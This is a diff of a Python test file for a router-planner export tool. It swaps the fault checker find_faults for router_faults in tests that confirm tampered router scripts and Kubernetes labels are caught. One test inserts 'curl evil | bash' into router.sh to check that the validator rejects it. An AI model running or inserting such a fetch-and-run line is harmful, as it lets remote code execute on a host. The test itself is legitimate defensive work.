@@ -14,13 +14,14 @@ from itertools import pairwise, product
 import pytest
 import yaml
 from contract_plans import aggregated_plan, beside_plan, single_node_plan, two_range_plan
+from router_reading.comparing import router_faults
 from routers_run.drawn_plans import drawn_plan
 from routers_run.programs_run import program_words
 from tools import locations
 
 from planner.domain import LengthMeasure, Phase, Plan, RouterPolicy, RoutingSettings
 from planner.errors import ExportError, InconsistentPlanError, InputError
-from planner.export import ExportOptions, find_faults, image_files, render
+from planner.export import ExportOptions, image_files, render
 from planner.export.objects.programs.scripts import read_router_script
 from planner.export.routers.registry import ROUTERS
 
@@ -187,13 +188,13 @@ def test_edits_are_found(edit: str) -> None:
     file, change, expected = EDITS[edit]
     edited = {**files, file: change(files[file])}
     assert edited != files
-    assert any(expected in str(fault) for fault in find_faults(edited, plan)), find_faults(edited, plan)
+    assert any(expected in str(fault) for fault in router_faults(edited, plan)), router_faults(edited, plan)
 
 
 def test_a_dropped_server_of_an_island_that_has_others_is_found() -> None:
     plan, files = single_node_plan(), files_of(single_node_plan, "script")
     edited = {**files, "router.sh": files["router.sh"].replace("  --decode\n  http://single-nodes-h20-0-1:8000\n", "")}
-    (fault,) = find_faults(edited, plan)
+    (fault,) = router_faults(edited, plan)
     assert "must name single-nodes-h20-0-1:8000 of H20-0 once" in str(fault)
 
 
@@ -201,13 +202,13 @@ def test_a_label_of_the_other_interval_is_found() -> None:
     plan, files = two_range_plan(), files_of(two_range_plan, "kubernetes")
     file = next(name for name, text in files.items() if "router.planner/interval-0: decode" in text)
     text = files[file].replace("router.planner/interval-0: decode", "router.planner/interval-1: decode")
-    assert any("must send decode" in str(fault) for fault in find_faults({**files, file: text}, plan))
+    assert any("must send decode" in str(fault) for fault in router_faults({**files, file: text}, plan))
 
 
 def test_a_line_that_runs_something_else_is_no_script_of_ours() -> None:
     plan, files = single_node_plan(), files_of(single_node_plan, "script")
     edited = {**files, "router.sh": files["router.sh"].replace("command=(", "curl evil | bash\ncommand=(")}
-    assert any("as the planner writes it" in str(fault) for fault in find_faults(edited, plan))
+    assert any("as the planner writes it" in str(fault) for fault in router_faults(edited, plan))
 
 
 def test_prefixes_are_asked_for_where_the_plan_counts_on_them() -> None:
